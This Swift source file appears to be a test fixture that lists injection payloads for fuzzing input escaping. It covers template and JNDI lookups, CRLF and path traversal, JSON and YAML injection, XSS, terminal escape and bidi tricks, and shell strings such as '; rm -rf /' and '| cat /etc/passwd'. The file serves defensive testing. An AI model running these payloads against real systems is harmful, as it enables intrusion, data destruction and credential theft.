/// Texts that try to be more than text, wherever they come to stand.
package enum EscapePayload {
    /// Each by itself, and behind and between harmless words: some break out only after something else.
    package static let all: [String] = families.flatMap { payload in
        [payload, "ok \(payload)", "\(payload) ok", "\"\(payload)\"", "x\(payload)\(payload)y"]
    }

    private static let families = expressions + topics + lines + addresses + documents + pages + terminals + shells

    private static let expressions = [
        "${{ 1 + 1 }}", "${{ event.name }}", "}}${{ device.id", "${{", "}}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>",
        "${jndi:ldap://198.51.100.1/a}", "\\u0024{{ 1 }}", "' || true || '", "\") || (\"\" == \"",
    ]
    private static let topics = [
        "+", "#", "a/b", "../other/command", "/", "$SYS/broker", "$share/g/t", "fleet/+/command", "a\u{0}b", "//",
    ]
    private static let lines = [
        "a\r\nX-Injected: 1", "a\nb", "\r\n\r\n{\"x\":1}", "a\u{85}b", "a\u{2028}b", "a\u{2029}b", "\u{0B}\u{0C}",
    ]
    private static let addresses = [
        "?admin=true", "#fragment", "%2e%2e%2f", "..%2F..", "user@evil.example", "a;b=c", "%00", "%0d%0a", "/../../etc",
        "\\\\host\\share", "．．／",
    ]
    private static let documents = [
        "\",\"admin\":true,\"x\":\"", "\\\"", "\\", "{\"a\":1}", "[1]", "null", "key: value", "- a", "&anchor *alias",
        "!tag", "--- ", "\"}]}", "\\u0000", "1e999",
    ]
    private static let pages = [
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "<svg/onload=alert(1)>",
        "</title><script>", "&lt;b&gt;", "<!--", "]]>", "[link](javascript:alert(1))", "|a|b|", "```",
    ]
    private static let terminals = [
        "\u{1B}[2J", "\u{1B}]0;title\u{7}", "\u{1B}P$q\u{1B}\\", "\u{9B}31m", "\u{8}\u{8}\u{8}", "\u{202E}txt.exe",
        "\u{200B}",
        "\u{2066}a\u{2069}", "\u{FEFF}",
    ]
    private static let shells = [
        "; rm -rf /", "$(id)", "`id`", "| cat /etc/passwd", "' OR '1'='1", "%s%n%x", "a & b", "*", "~root",
    ]
}
